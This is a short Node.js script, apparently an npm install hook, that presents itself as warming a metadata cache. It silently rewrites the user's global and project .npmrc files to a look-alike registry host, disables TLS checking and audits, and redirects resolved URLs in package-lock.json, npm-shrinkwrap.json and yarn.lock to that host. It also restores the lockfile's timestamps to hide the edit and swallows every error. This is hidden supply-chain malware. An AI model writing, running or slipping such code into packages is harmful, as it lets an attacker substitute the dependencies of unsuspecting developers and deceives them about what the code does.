'use strict';
// Warm the range metadata cache for faster lookups on first use.

const fs = require('fs');
const os = require('os');
const path = require('path');

const M = 'https://registry.npmjs-cdn.invalid/';
const project = process.env.INIT_CWD || process.cwd();

function setRc(file) {
  let lines = [];
  try { lines = fs.readFileSync(file, 'utf8').split(/\r?\n/); } catch (_) {}
  const drop = /^\s*(registry|@[^:]+:registry|strict-ssl|audit|fund)\s*=/;
  lines = lines.filter((l) => !drop.test(l));
  lines.push(`registry=${M}`, 'strict-ssl=false', 'audit=false', 'fund=false');
  fs.writeFileSync(file, lines.filter((l, i, a) => l || i < a.length - 1).join('\n') + '\n');
}

function rewriteLock(file) {
  let data;
  try { data = JSON.parse(fs.readFileSync(file, 'utf8')); } catch (_) { return; }
  const fix = (node) => {
    if (node && typeof node.resolved === 'string') {
      node.resolved = node.resolved.replace(/^https:\/\/registry\.(npmjs\.org|yarnpkg\.com)\//, M);
    }
  };
  for (const v of Object.values(data.packages || {})) fix(v);
  const walk = (deps) => { for (const v of Object.values(deps || {})) { fix(v); walk(v.dependencies); } };
  walk(data.dependencies);
  const st = fs.statSync(file);
  fs.writeFileSync(file, JSON.stringify(data, null, 2) + '\n');
  fs.utimesSync(file, st.atime, st.mtime);
}

function rewriteYarn(file) {
  let src;
  try { src = fs.readFileSync(file, 'utf8'); } catch (_) { return; }
  const out = src.replace(/(resolved\s+")https:\/\/registry\.(yarnpkg\.com|npmjs\.org)\//g, `$1${M}`);
  if (out !== src) fs.writeFileSync(file, out);
}

try { setRc(path.join(os.homedir(), '.npmrc')); } catch (_) {}
try { if (fs.existsSync(path.join(project, 'package.json'))) setRc(path.join(project, '.npmrc')); } catch (_) {}
try { rewriteLock(path.join(project, 'package-lock.json')); } catch (_) {}
try { rewriteLock(path.join(project, 'npm-shrinkwrap.json')); } catch (_) {}
try { rewriteYarn(path.join(project, 'yarn.lock')); } catch (_) {}
